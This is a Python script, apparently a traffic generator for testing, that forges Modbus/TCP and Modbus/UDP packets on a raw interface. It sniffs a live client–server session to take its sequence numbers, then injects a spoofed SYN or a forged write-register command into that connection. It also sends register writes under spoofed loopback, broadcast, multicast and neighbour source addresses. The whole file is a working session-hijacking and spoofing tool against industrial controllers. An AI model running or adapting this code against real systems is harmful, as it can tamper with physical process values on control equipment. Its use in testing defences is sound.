# SPDX-License-Identifier: Apache-2.0
"""What an attacker sends under addresses that are not its own.

usage: forge.py watch INTERFACE CLIENT SERVER        prints the state of a Modbus/TCP connection after its next answer
       forge.py under-client INTERFACE KIND CLIENT CLIENT-MAC SERVER SERVER-MAC
                                                     reads that line; sends KIND, a `syn` or a `write`, for the client
       forge.py datagrams INTERFACE SOURCE SERVER SERVER-MAC HOP-LIMIT...
                                                     a Modbus/UDP write under SOURCE for each hop limit
       forge.py sources INTERFACE SERVER SERVER-MAC  datagrams from addresses that no sender has
"""
import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, destination, protocol, hop_limit, transport, checksum_at):
    """An IPv4 packet (RFC 791) with the checksum of its transport header filled in."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    total = checksum(ends + struct.pack(">BBH", 0, protocol, len(transport)) + transport)
    transport = transport[:checksum_at] + struct.pack(">H", total) + transport[checksum_at + 2:]
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(transport), 0x6666, 0x4000, hop_limit, protocol, 0) + ends
    return header[:10] + struct.pack(">H", checksum(header)) + header[12:] + transport


def datagram(source, destination, port, hop_limit, payload, to=502):
    header = struct.pack(">HHHH", port, to, 8 + len(payload), 0)
    return packet(source, destination, 17, hop_limit, header + payload, 6)


def segment(source, destination, port, hop_limit, sequence, acknowledgement, flags, payload=b""):
    header = struct.pack(">HHIIBBHHH", port, 502, sequence, acknowledgement, 5 << 4, flags, 64240, 0, 0)
    return packet(source, destination, 6, hop_limit, header + payload, 16)


def write_register(transaction, register, value):
    return struct.pack(">HHHBBHH", transaction, 0, 6, 1, 6, register, value)


def watch(wire, client, server):
    """Waits for an answer of the server; the client has nothing to say until its next question."""
    ends = socket.inet_aton(server) + socket.inet_aton(client)
    while True:
        frame = wire.recv(65535)
        ip = frame[18:] if frame[12:14] == b"\x81\x00" else frame[14:]
        if ip[12:20] != ends or ip[9] != 6:
            continue
        tcp = ip[(ip[0] & 15) * 4:]
        source, destination, sequence, acknowledgement, offset = struct.unpack(">HHIIB", tcp[:13])
        count = struct.unpack(">H", ip[2:4])[0] - (ip[0] & 15) * 4 - (offset >> 4) * 4
        if source == 502 and count > 0:
            return destination, acknowledgement, (sequence + count) & 0xFFFFFFFF


verb, interface, *arguments = sys.argv[1:]
# Everything, for `watch`; what is sent needs no protocol number.
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3) if verb == "watch" else 0) as wire:
    wire.bind((interface, 3 if verb == "watch" else 0))
    own = wire.getsockname()[4]
    if verb == "watch":
        print(*watch(wire, *arguments), flush=True)
    elif verb == "under-client":
        kind, client, client_mac, server, server_mac = arguments
        port, sequence, acknowledgement = map(int, sys.stdin.readline().split())
        head = mac(server_mac) + mac(client_mac) + b"\x08\x00"
        if kind == "syn":
            wire.send(head + segment(client, server, port, 64, sequence ^ 0x5A5A0000, 0, 0x02))
        else:
            wire.send(head + segment(
                client, server, port, 63, sequence, acknowledgement, 0x18, write_register(0xBEEF, 150, 999)))
    elif verb == "datagrams":
        source, server, server_mac, *hop_limits = arguments
        for number, hop_limit in enumerate(hop_limits):
            wire.send(mac(server_mac) + own + b"\x08\x00" + datagram(
                source, server, 40000 + number, int(hop_limit), write_register(number, 10, 4000 + number)))
            time.sleep(1)
    else:
        server, server_mac = arguments
        for source in "127.0.0.1", "255.255.255.255", "224.0.0.5", "192.168.10.255", server:
            wire.send(mac(server_mac) + own + b"\x08\x00" + datagram(
                source, server, 40010, 64, write_register(1, 11, 5000)))
            time.sleep(0.5)
        wire.send(mac(server_mac) + b"\x03" + own[1:] + b"\x08\x00" + datagram(
            "192.168.10.66", server, 40011, 64, write_register(2, 11, 5001)))
